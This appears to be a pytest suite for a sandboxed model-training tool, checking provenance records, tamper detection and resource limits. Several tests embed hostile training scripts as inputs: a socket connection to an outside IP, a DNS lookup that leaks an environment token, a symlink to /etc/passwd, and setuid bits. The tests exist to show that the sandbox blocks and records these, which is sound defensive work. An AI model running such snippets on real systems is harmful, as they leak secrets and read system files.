"""Training from recorded data to statements, with the real sandbox."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sealwright.clock import parse_time, system_clock
from sealwright.errors import Refused, TamperError, UsageError
from sealwright.evidence.manifest import system_digest
from sealwright.evidence.predicates.model import Custody, SlsaProvenance
from sealwright.evidence.predicates.operation import Incident
from sealwright.evidence.statement import decode_statement, encode_statement
from sealwright.evidence.tree import identify
from sealwright.lifecycle.model import Limits, Training
from sealwright.phases.model.outputs import examine
from sealwright.phases.model.train import TrainingInput, TrainingResult, train
from sealwright.sandbox import choose

GOOD = """
import os, pathlib
rows = pathlib.Path("data/train.csv").read_text()
pathlib.Path("model/v1").mkdir()
pathlib.Path("model/v1/weights.bin").write_text(rows * 2)
pathlib.Path("model/readme").write_text("made by " + os.environ["WHO"])
print("trained")
"""

Train = Callable[..., TrainingResult]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "data").mkdir(parents=True)
    (root / "data/train.csv").write_text("a,b\n1,2\n")
    (root / "requirements.txt").write_text("numpy==2.0.0\n")
    (root / "canary.txt").write_text("the canary")
    return root


@pytest.fixture
def training(project: Path) -> Train:
    def start(script: str = GOOD, *, digest: str = "", **changes: Any) -> TrainingResult:
        (project / "train.py").write_text(script)
        declared: dict[str, Any] = {
            "command": ["python", "train.py"],
            "code": ["train.py"],
            "inputs": ["loans"],
            "output": "model",
            "lock": "requirements.txt",
            "limits": Limits(seconds=60, memory_mb=512, processes=8, output_mb=8),
            "environment": {"WHO": "nobody-in-particular"},
            **changes,
        }
        level = declared.pop("level", None)
        recorded = digest or identify(project / "data/train.csv").digest
        return train(
            Training(**declared),
            root=project,
            system="loans",
            inputs=[TrainingInput(name="loans", path="data/train.csv", digest=recorded)],
            clock=system_clock,
            config="ab" * 32,
            level=level,
        )

    return start


def test_a_training_yields_a_model_in_place_with_provenance_and_custody(
    training: Train, project: Path
) -> None:
    result = training()
    assert result.succeeded
    assert result.artifact is not None
    assert identify(project / "model").digest == result.artifact.digest
    provenance, custody = (s.predicate for s in result.statements)
    assert isinstance(provenance, SlsaProvenance)
    assert isinstance(custody, Custody)
    assert custody.files == result.artifact.files
    assert [s.subjects[0].sha256 for s in result.statements] == [result.artifact.digest] * 2
    for statement in result.statements:
        assert decode_statement(encode_statement(statement)).predicate == statement.predicate
    assert not [path for path in project.iterdir() if path.name.startswith(".")]


def test_provenance_names_everything_that_went_in_by_kind_and_digest(
    training: Train, project: Path
) -> None:
    provenance = training().statements[0].predicate
    assert isinstance(provenance, SlsaProvenance)
    definition = provenance.build_definition
    found = {
        (r.annotations["kind"], r.name): r.digest["sha256"]
        for r in definition.resolved_dependencies
    }
    assert found["dataset", "loans"] == identify(project / "data/train.csv").digest
    code = identify(project / "train.py")
    assert found["code", "train.py"] == code.digest
    assert found["file", "train.py"] == code.files[0].sha256
    assert found["config", "requirements.txt"] == identify(project / "requirements.txt").digest
    assert found["config", "sealwright.toml"] == "ab" * 32
    assert len([1 for kind, _ in found if kind == "environment"]) == 1
    assert definition.build_type == "urn:sealwright:buildtype:sandboxed-training:v1"
    assert definition.external_parameters["command"] == ["python", "train.py"]
    inside = definition.internal_parameters
    assert inside["isolation"]["network"] == "none"
    assert inside["isolation"]["level"] == "bubblewrap"
    assert inside["violations"] == []
    assert inside["exit"] == {"code": 0, "signal": None}
    metadata = provenance.run_details.metadata
    assert parse_time(metadata.started_on) <= parse_time(metadata.finished_on)
    # What a variable holds may be nobody's business: its name alone is recorded, and no digest of
    # it, by which a short secret could be found again.
    assert definition.external_parameters["environment"] == ["WHO"]
    assert "environmentDigest" not in definition.external_parameters
    assert b"nobody-in-particular" not in encode_statement(training().statements[0])


def test_an_attempt_leaves_no_model_and_an_open_incident_that_tells_it(
    training: Train, project: Path
) -> None:
    result = training(
        GOOD + "import socket\ntry: socket.create_connection(('192.0.2.1', 443))\n"
        "except OSError: pass\ntry: open('canary.txt')\nexcept OSError: pass\n"
    )
    assert not result.succeeded
    assert not (project / "model").exists()
    (statement,) = result.statements
    incident = statement.predicate
    assert isinstance(incident, Incident)
    assert (incident.status, incident.severity) == ("open", "high")
    assert "connect to 192.0.2.1 port 443" in incident.detail
    assert "read canary.txt" in incident.detail
    digests = {subject.sha256 for subject in statement.subjects}
    assert digests == {system_digest("loans"), identify(project / "train.py").digest}
    assert decode_statement(encode_statement(statement)).predicate == incident


def test_no_value_of_a_variable_leaves_the_run(training: Train) -> None:
    secret = "s3cr3t-token-value"
    script = """
import os, socket, sys
value = os.environ["TOKEN"]
print("out", value)
print("err", value.upper(), file=sys.stderr)
for reach in (
    lambda: socket.getaddrinfo(value + ".example.com", 80),
    lambda: os.symlink("nowhere", "model/" + value),
):
    try:
        reach()
    except OSError:
        pass
"""
    result = training(script, environment={"TOKEN": secret})
    assert not result.succeeded
    assert [v.kind for v in result.violations if "[TOKEN]" in v.detail] == ["network", "output"]
    (incident,) = (statement.predicate for statement in result.statements)
    assert isinstance(incident, Incident)
    assert "[TOKEN].example.com" in incident.detail
    assert "out [TOKEN]" in result.outcome.stdout.tail
    assert "err [TOKEN]" in result.outcome.stderr.tail
    said = repr(result).lower() + "".join(
        encode_statement(statement).decode().lower() for statement in result.statements
    )
    assert secret[:6] not in said


def test_running_into_a_limit_is_on_record_and_closed(training: Train, project: Path) -> None:
    result = training("while True: pass", limits=Limits(seconds=1))
    incident = result.statements[0].predicate
    assert isinstance(incident, Incident)
    assert (incident.status, incident.severity) == ("closed", "medium")
    assert "time: run longer than 1 seconds" in incident.detail
    assert not (project / "model").exists()


@pytest.mark.parametrize("level", ["bubblewrap", "landlock"])
def test_a_link_in_the_output_is_no_model(training: Train, project: Path, level: str) -> None:
    result = training(
        "import os; os.symlink('/etc/passwd', 'model/w.bin')", level=level, isolation="landlock"
    )
    assert not result.succeeded
    assert [v.kind for v in result.violations] == ["output"]
    assert "symbolic link 'w.bin'" in result.violations[0].detail
    assert not os.path.lexists(project / "model")


def test_special_files_and_too_much_are_found_in_what_is_left(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "large").write_bytes(b"x" * 4096)
    found = examine(tmp_path, bound=4000)
    assert [v.detail for v in found] == ["leave the special file 'pipe'", "leave more than 0 MiB"]


@pytest.mark.parametrize("code", ["pass", "open('model/empty', 'w')", "raise SystemExit(3)"])
def test_no_content_and_a_plain_failure_are_no_model_and_no_incident(
    training: Train, project: Path, code: str
) -> None:
    result = training(code)
    assert not result.succeeded
    assert result.statements == ()
    assert result.reason
    assert not (project / "model").exists()


def test_a_failed_run_leaves_the_model_before_it_as_it_was(training: Train, project: Path) -> None:
    before = training().artifact
    assert before is not None
    assert not training("open('model/half', 'w').write('x'); raise SystemExit(1)").succeeded
    assert identify(project / "model").digest == before.digest
    after = training(GOOD.replace("* 2", "* 3")).artifact
    assert after is not None
    assert identify(project / "model").digest == after.digest != before.digest


def test_the_set_user_id_bit_does_not_survive(training: Train, project: Path) -> None:
    result = training("import os; open('model/x','w').write('x'); os.chmod('model/x', 0o6777)")
    assert result.succeeded
    assert (project / "model/x").stat().st_mode & 0o7777 == 0o644


def test_data_that_is_not_what_was_recorded_is_refused_before_anything_runs(
    training: Train, project: Path
) -> None:
    with pytest.raises(TamperError, match="csv: changed before the run"):
        training(digest="00" * 32)
    assert not (project / "model").exists()


def test_code_that_is_not_what_was_scanned_is_refused(project: Path) -> None:
    (project / "train.py").write_text(GOOD)
    with pytest.raises(TamperError, match="py: changed before the run"):
        train(
            Training(command=["python", "train.py"], code=["train.py"], inputs=[], output="model"),
            root=project,
            system="loans",
            inputs=[],
            clock=system_clock,
            code={"train.py": "11" * 32},
        )


def test_data_that_changes_during_the_run_is_noticed(project: Path) -> None:
    (project / "train.py").write_text(GOOD)
    data = project / "data/train.csv"
    recorded = identify(data).digest
    ticks: list[int] = []

    def meddling_clock() -> Any:
        ticks.append(1)
        data.write_text("a,b\n9,9\n")  # the first time is asked when the walls stand
        return system_clock()

    with pytest.raises(TamperError, match="changed during the run"):
        train(
            Training(
                command=["python", "train.py"],
                code=["train.py"],
                inputs=["loans"],
                output="model",
                environment={"WHO": "x"},
            ),
            root=project,
            system="loans",
            inputs=[TrainingInput(name="loans", path="data/train.csv", digest=recorded)],
            clock=meddling_clock,
        )
    assert ticks
    assert sorted(p.name for p in project.iterdir()) == [
        "canary.txt",
        "data",
        "requirements.txt",
        "train.py",
    ]


@pytest.mark.parametrize(
    "wrong",
    [
        {"output": "../model"},
        {"output": "data"},
        {"output": "/model"},
        {"command": []},
        {"inputs": ["other"]},
        {"code": []},
        {"environment": {"A=B": "x"}},
        {"limits": Limits(seconds=0)},
    ],
)
def test_declarations_that_make_no_sense_are_refused(
    training: Train, project: Path, wrong: dict[str, Any]
) -> None:
    with pytest.raises(UsageError):
        training(**wrong)
    assert sorted(path.name for path in project.iterdir()) == [
        "canary.txt",
        "data",
        "requirements.txt",
        "train.py",
    ]


def test_a_weaker_level_than_asked_for_is_refused(training: Train) -> None:
    with pytest.raises(Refused, match="bubblewrap"):
        training(level="landlock")
    with pytest.raises(Refused):
        choose.choose("landlock", offered=("none",))
    assert choose.choose("landlock", offered=("landlock", "bubblewrap")) == "bubblewrap"
